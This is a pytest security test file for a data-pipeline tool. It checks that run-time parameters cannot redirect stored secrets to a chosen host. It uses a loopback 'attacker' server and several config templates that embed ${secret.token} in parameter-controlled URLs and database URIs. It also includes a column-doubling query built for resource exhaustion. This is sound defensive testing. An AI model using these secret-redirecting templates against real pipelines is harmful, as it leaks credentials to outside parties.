"""Who may only run a pipeline chooses its params, and must not choose with them where its secrets go. Queries and packages that do harm."""

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.metadata import EntryPoint
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings

from brokoli_site.common.errors import NodeError
from pipelines.column_lineage.facts import TracedInput, facts_of
from pipelines.nodes import registry
from pipelines.nodes.base import Column
from pipelines.vault import StoredVariable, Vault
from tests.contracts.case import Given
from tests.contracts.workshop import Workshop

pytestmark = pytest.mark.any_database
CANARY = "canary-of-the-token"


@pytest.fixture
def vault() -> Vault:
    identity = "variable:token"
    return Vault({"token": StoredVariable("token", "secret", django_settings.KEYRING.seal(CANARY, identity), identity)})


@pytest.fixture
def attacker(loopback_allowed: None) -> Iterator[tuple[int, list[str]]]:
    """A port of loopback, and what was heard there."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # a POST would say the same
            heard.append(f"{self.path} {self.headers}")
            self.send_response(200)
            self.end_headers()

        def log_message(self, *arguments: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield server.server_port, heard
    server.shutdown()
    server.server_close()
    thread.join(5)


@pytest.mark.parametrize(
    ("type_name", "config", "inputs"),
    [
        ("source_api", {"url": "http://${param.host}/?key=${secret.token}"}, []),
        ("source_api", {"url": "http://${param.host}/", "params": {"key": "${var.token}"}}, []),
        ("sink_api", {"url": "http://${param.host}/${secret.token}"}, ["SELECT 1 AS a"]),
        ("notify", {"notify_type": "webhook", "webhook_url": "http://${param.host}/${secret.token}"}, []),
        ("wait", {"condition": "http", "url": "http://${param.host}/${secret.token}"}, []),
        ("source_db", {"uri": "postgres://u:${secret.token}@${param.host}/db", "query": "SELECT 1"}, []),
        ("sink_db", {"uri": "mysql://u:${secret.token}@${param.host}/db", "table": "t"}, ["SELECT 1 AS a"]),
        (
            "migrate",
            {
                "source_uri": "postgres://u:${secret.token}@${param.host}/db",
                "dest_uri": "sqlite:///a.db",
                "source_query": "SELECT 1",
                "dest_table": "t",
            },
            [],
        ),
    ],
)
def test_a_param_does_not_choose_where_a_secret_goes(
    workshop: Workshop, vault: Vault, attacker: tuple[int, list[str]], type_name: str, config: dict[str, Any], inputs: list[str]
) -> None:
    port, heard = attacker
    with pytest.raises(NodeError, match="param cannot be a part of the host"):
        workshop.run(type_name, Given(config, inputs, vault=vault), {"host": f"127.0.0.1:{port}"})
    assert heard == []


def test_a_param_may_choose_the_rest(workshop: Workshop, vault: Vault, attacker: tuple[int, list[str]]) -> None:
    port, heard = attacker
    workshop.run(
        "wait", Given({"condition": "http", "url": f"http://127.0.0.1:{port}/${{param.day}}/${{secret.token}}"}, vault=vault), {"day": "x@evil"}
    )
    assert heard[0].startswith(f"/x@evil/{CANARY}")


def test_a_query_that_doubles_its_columns_is_not_traced_for_ever() -> None:
    links = "".join(f", a{number} AS (SELECT x.*, y.* FROM a{number - 1} x, a{number - 1} y)" for number in range(1, 30))
    source = TracedInput("t", "n", tuple(Column(f"c{number}", "INTEGER") for number in range(50)))
    started = time.process_time()
    assert facts_of(f"WITH a0 AS (SELECT * FROM t) {links} SELECT count(*) AS c FROM a29", [source], ["c"]) is None
    assert time.process_time() - started < 5


def test_a_package_that_cannot_be_imported_takes_no_other_type_with_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "broken_nodes.py").write_text("raise ValueError('no licence')")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setattr(registry, "_third_party", lambda: {"broken": (EntryPoint("broken", "broken_nodes:Broken", registry.ENTRY_POINT_GROUP),)})
    registry._loaded.cache_clear()
    with pytest.raises(registry.InvalidNodeType, match="cannot be loaded"):
        registry.get("broken")
    assert registry.find("broken") is None
    assert {"source_db", "sql"} < {one.name for one in registry.all()}
    registry._loaded.cache_clear()
